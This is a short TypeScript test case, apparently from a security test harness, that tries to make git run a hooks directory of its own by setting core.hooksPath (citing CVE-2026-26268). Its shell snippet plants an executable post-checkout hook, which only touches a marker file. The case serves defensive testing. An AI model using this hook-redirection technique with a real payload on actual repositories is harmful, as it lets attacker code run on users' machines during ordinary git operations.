import { type Attack, sh } from '../attack.js'
import { repository, sprung } from '../repository.js'

export const attack: Attack = {
  id: 'git/hooks-path',
  tries: 'to lead git to a directory of hooks of its own',
  source: 'CVE-2026-26268 (core.hooksPath)',
  prepare: (stage) => repository(stage),
  program: sh`printf '#!/bin/sh\n: > "$OUT/sprung"\n' > "$S/evil" && chmod +x "$S/evil"
mkdir "$S/hooks" && cp "$S/evil" "$S/hooks/post-checkout" && git -C "$W" config core.hooksPath "$S/hooks"`,
  succeeded: sprung('w', 'checkout', '-q', '-b', 'x'),
  control: 'plain',
}
